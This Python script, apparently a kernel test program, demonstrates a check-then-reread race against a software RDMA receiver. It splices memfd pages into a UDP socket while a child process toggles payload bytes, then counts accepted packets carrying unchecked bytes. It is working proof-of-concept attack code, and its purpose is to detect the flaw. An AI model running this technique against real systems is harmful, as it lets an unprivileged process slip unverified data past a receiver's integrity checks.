#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""rewrite - a sender that modifies its packets while the receiver reads them.

The attack needs no privilege: splicing into a UDP socket passes pages, not copies, and any
process on the receiver's kernel may keep these pages mapped. The packet is valid while eight
of its bytes have one value; a process toggles them between that value and another. A
receiver that checks a packet in place and reads it again to place it places bytes that it
has not checked.

Example:
  in a rewrite.py --device srnic0 --netns b --from fd77::2 --to fd77::1
"""
import argparse
import mmap
import os
import signal
import socket
import struct
import sys
from ipaddress import IPv6Address
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "tests/programs"))
from datagram_bed import (GRH, ONLY, OUR_QPN, QKEY, ROOM, Device, Packet, Target,  # noqa: E402
                          elsewhere)

UDP_NO_CHECK6_TX = 101
BEFORE_BTH = 40 + 8         # IPv6, UDP
BEFORE_PAYLOAD = 12 + 8     # BTH, DETH
LENGTH = 3072               # of the payload: within one page, or it would be copied as a whole
AT = LENGTH // 2
RIGHT, WRONG = b"checked.", b"not so!!"
MOST = 20                   # maximum number of rounds


def datagram(qpn, sgid, dgid):
    """Return BTH to ICRC of a UD SEND ONLY with RIGHT in the middle of its payload."""
    bth = struct.pack(">BBHIBBH", ONLY, 0x40, 0xffff, qpn, 0, 0, 0)
    deth = struct.pack(">II", QKEY, OUR_QPN)
    payload = bytearray(os.urandom(LENGTH))
    payload[AT:AT + len(RIGHT)] = RIGHT
    return Packet(sgid, dgid, bth + deth + payload).bytes()[BEFORE_BTH:]


class Spliced:
    """Memory whose pages are sent as a packet and stay writable for this process."""

    def __init__(self, content, sock):
        self.length, self.sock = len(content), sock
        self.file = os.memfd_create("packet")
        os.write(self.file, content)
        self.map = mmap.mmap(self.file, self.length)
        self.pipe = os.pipe()

    def keep_changing(self):
        """Toggle the bytes in a child process until it is killed. Returns its PID."""
        child = os.fork()
        if child:
            return child
        at = BEFORE_PAYLOAD + AT
        end = at + len(RIGHT)
        while True:
            self.map[at:end] = WRONG
            self.map[at:end] = RIGHT

    def send(self):
        os.splice(self.file, self.pipe[1], self.length, offset_src=0)
        os.splice(self.pipe[0], self.sock.fileno(), self.length)


def sender(netns, src, dst):
    """Return a connected UDP socket in the namespace: splice() takes no address."""
    with elsewhere(netns):
        sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        sock.bind((src, 0xc000))
    sock.setsockopt(socket.IPPROTO_UDP, UDP_NO_CHECK6_TX, 1)
    sock.connect((dst, 4791))
    return sock


def run(target, spliced, count):
    """Send datagrams; return how many were accepted, and how many of these are wrong."""
    taken = wrong = 0
    for _ in range(count):
        spliced.send()
        for wc in target.poll(target.cqs[1], 0):
            text = target.mr.read(wc.byte_len - GRH, wc.wr_id * (GRH + ROOM) + GRH)
            taken += 1
            wrong += text[AT:AT + len(RIGHT)] != RIGHT
            target.expect(wc.wr_id)
    return taken, wrong


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 epilog=__doc__.split("\n\n")[-1],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--device", required=True, help="whose queue pair receives")
    ap.add_argument("--netns", required=True, help="network namespace of the sender")
    ap.add_argument("--from", dest="src", required=True, metavar="ADDRESS", help="the sender's")
    ap.add_argument("--to", dest="dst", required=True, metavar="ADDRESS", help="the device's")
    ap.add_argument("--count", type=int, default=2000, help="datagrams, or more if none was caught (%(default)s)")
    args = ap.parse_args()

    target = Target(Device(args.device))
    src, dst = (IPv6Address(address).packed for address in (args.src, args.dst))
    spliced = Spliced(datagram(target.qpn, src, dst), sender(args.netns, args.src, args.dst))
    child = spliced.keep_changing()
    sent = taken = wrong = 0
    try:
        # on a busy machine, sender and receiver rarely run at the same time
        while sent < MOST * args.count and not 0 < taken < sent:
            more = run(target, spliced, args.count)
            sent, taken, wrong = sent + args.count, taken + more[0], wrong + more[1]
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    print(f"- {sent} datagrams sent while being changed: {taken} taken, "
          f"{wrong} of those with bytes that nobody has checked")
    if not 0 < taken < sent:
        sys.exit("FAIL: sender and receiver never met at those bytes: that shows nothing")
    sys.exit(wrong > 0)


if __name__ == "__main__":
    main()
